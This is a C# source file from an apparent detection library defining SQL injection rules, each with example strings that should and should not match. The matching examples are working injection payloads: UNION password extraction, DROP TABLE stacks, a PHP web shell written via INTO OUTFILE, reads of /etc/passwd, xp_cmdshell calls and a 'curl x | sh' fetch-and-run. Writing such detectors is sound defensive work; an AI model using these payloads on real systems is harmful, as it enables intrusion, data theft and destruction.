namespace Sallyport.Detection.Sql;

/// <summary>SQL that somebody made mean something else. Destructive but honest SQL is no injection: what it does is judged elsewhere.</summary>
internal static class SqlRules
{
    public static readonly DetectionRule Tautology = Rule("sqli-tautology", Severity.High,
        "A condition made true for every row: OR with two equal constants, after a broken-out quote or before a comment.",
        ["SELECT * FROM users WHERE name = '' OR 1=1 --'", "id=1' OR '1'='1", "select * from t where a='x' or 'a' like 'a'", "WHERE id = 5 OR 2>1", "login: admin' OR TRUE -- ", "x') or ('1'='1", "id=7' AND 4=5 --"],
        ["SELECT * FROM t WHERE 1=1 AND a = 2", "SELECT * FROM t WHERE a = 1 OR b = 1", "if a or 1 == 2:", "WHERE a = 1 OR a = 2", "this or 1=2", "select * from t where x = 'or 1=1 is text'"]);

    public static readonly DetectionRule Union = Rule("sqli-union", Severity.Critical, "UNION SELECT after a broken-out quote, with padding columns, a comment tail or a system table.",
        ["id=-1' UNION SELECT username, password FROM users--", "1 UNION ALL SELECT NULL,NULL,version()",
            "SELECT a FROM b WHERE c='' UNION SELECT table_name FROM information_schema.tables -- ", "1) union/**/select 1,2,3"],
        ["SELECT a FROM x UNION SELECT b FROM y", "SELECT 'a' AS k UNION ALL SELECT 'b' ORDER BY 1", "the union selected a leader", "SELECT id FROM a WHERE b = 'x' UNION SELECT id FROM c"]);

    public static readonly DetectionRule Stacked = Rule("sqli-stacked", Severity.Critical, "A statement stacked after a broken-out quote, with the rest commented away.",
        ["name='x'; DROP TABLE users; --", "1'); DELETE FROM logs --", "id=1'; EXEC('sh' + 'utdown')--", "Robert'); DROP TABLE Students;--"],
        ["INSERT INTO a VALUES ('x'); DELETE FROM b;", "BEGIN; UPDATE a SET b='c'; COMMIT;", "UPDATE a SET b = 'c'; -- then drop the table by hand"]);

    public static readonly DetectionRule Blind = Rule("sqli-time-based", Severity.Critical, "A condition that waits: SLEEP, BENCHMARK, pg_sleep, WAITFOR, as one asks a database that does not answer.",
        ["id=1 AND SLEEP(5)", "1' OR pg_sleep(10)--", "x' WAITFOR DELAY '0:0:5'--", "select if(1=1, sleep(3), 0)", "x' AND BENCHMARK(5000000, MD5('a'))", "1 or dbms_pipe.receive_message('a',5)=1"],
        ["time.sleep(5)", "sleep 5 && echo ok", "SELECT pg_sleep(1)", "WAITFOR DELAY '00:00:05'", "retry and sleep(5) in python", "benchmark(1000, run)"]);

    public static readonly DetectionRule ErrorBased = Rule("sqli-error-based", Severity.High, "Data carried out in an error: EXTRACTVALUE, UPDATEXML or CONVERT over a subquery or a version.",
        ["and extractvalue(1, concat(0x7e, version()))", "updatexml(1,concat(0x7e,(select user())),1)", "convert(int,(select @@version))", "CAST((SELECT password FROM users LIMIT 1) AS INT)"],
        ["SELECT extractvalue(doc, '/a/b') FROM t", "convert(int, price)", "CAST(a AS INT)", "updatexml(doc, '/a', '<a>1</a>')"]);

    public static readonly DetectionRule Files = Rule("sqli-file-access", Severity.High, "A query that writes or reads files of the database server.",
        ["SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/x.php'", "select load_file('/etc/passwd')", "UNION SELECT a INTO DUMPFILE '/tmp/x'"],
        ["load_file(path)", "write the report into outfile.txt", "LOAD DATA INFILE 'a.csv' INTO TABLE t"]);

    public static readonly DetectionRule Commands = Rule("sqli-os-command", Severity.Critical, "A query that runs a program or reaches the network from the database server.",
        ["EXEC xp_cmdshell 'whoami'", "EXEC sp_configure 'xp_cmdshell', 1", "COPY t FROM PROGRAM 'curl x | sh'", "select utl_http.request('http://x') from dual", "exec master..xp_dirtree '\\\\x\\y'"],
        ["xp_cmdshell is disabled by default", "COPY t FROM '/tmp/a.csv'", "exec sp_who2"]);

    public static readonly DetectionRule Obfuscated = Rule("sqli-obfuscated", Severity.High, "Keywords hidden by comments or strings spelled as codes, in SQL.",
        ["UN/**/ION SEL/**/ECT 1", "DROP/**/TABLE users", "/*!50000UNION*/ SELECT 1", "select * from t where a = CHAR(97,100,109,105,110)",
            "where n = CHR(65)||CHR(66)||CHR(67)", "select * from users where name = 0x61646d696e2d726f6f74"],
        ["SELECT /* the names */ name FROM t", "SELECT char(10)", "0xdeadbeef", "select * from t where h = 0xdeadbeefdeadbeef", "select a /* union */ from b"]);

    public static readonly DetectionRule Breakout = Rule("sqli-comment-tail", Severity.High, "A quote broken out of and the rest of the query commented away.",
        ["SELECT * FROM users WHERE name='admin'--' AND pass='x'", "username=admin'--", "user=root'/*&pass=x", "where u='a'#"],
        ["SELECT 'a' -- the letter", "git log --format='x' -- file", "echo 'a'-- b", "-- it's a comment", "sed 's/a/b/'#comment"]);

    public static readonly DetectionRule[] All = [Tautology, Union, Stacked, Blind, ErrorBased, Files, Commands, Obfuscated, Breakout];

    private static DetectionRule Rule(string id, Severity severity, string description, string[] yes, string[] no) =>
        new(id, FindingKind.Sqli, severity, DataClass.None, description) { Cases = () => new(yes, no, Surface.ToolInput) };
}
